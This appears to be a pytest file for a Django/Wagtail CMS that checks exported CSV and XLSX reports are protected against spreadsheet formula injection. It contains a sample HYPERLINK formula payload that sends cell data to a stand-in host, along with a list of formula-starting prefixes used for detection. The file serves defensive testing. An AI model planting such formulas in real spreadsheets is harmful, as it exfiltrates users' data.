"""Lists that an editor downloads open in a spreadsheet as words, and never as formulas."""

import csv
from io import BytesIO, StringIO

import pytest
from django.contrib.auth import get_user_model
from django.test import Client
from django.urls import reverse
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from cms.editor.exports import safe_cell
from tests.samples import Hospital

FORMULA = '=HYPERLINK("https://example.org/?"&A1,"Click")'


@pytest.mark.parametrize(
    "cell", [FORMULA, "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1", " =1"]
)
def test_what_a_spreadsheet_would_calculate_becomes_words(cell: str) -> None:
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["", "Cooley's anemia", "a=b", "'=1", 5, -5, None])
def test_everything_else_stays_as_it_is(cell: object) -> None:
    assert safe_cell(cell) == cell


@settings(deadline=None)
@given(st.text())
def test_no_cell_begins_as_formulas_do(cell: str) -> None:
    assert not safe_cell(cell).startswith(tuple("=+-@\t\r\n＝＋－＠"))


@pytest.fixture
def download(hospital: Hospital):
    """Wagtail's own report of old pages, where one page has a formula for a title."""
    hospital.standard.title = FORMULA
    hospital.standard.save_revision().publish()
    client = Client()
    client.force_login(get_user_model().objects.create_superuser("chief"))

    def download(kind: str) -> bytes:
        response = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": kind})
        return b"".join(response.streaming_content)

    return download


def test_a_report_as_csv_holds_no_formula(download) -> None:
    titles = [row[0] for row in csv.reader(StringIO(download("csv").decode()))]
    assert f"'{FORMULA}" in titles
    assert FORMULA not in titles


def test_a_report_as_xlsx_holds_no_formula(download) -> None:
    sheet = load_workbook(BytesIO(download("xlsx"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert FORMULA in [cell.value for cell in cells if cell.data_type == "s"]
    assert not [cell for cell in cells if cell.data_type == "f"]
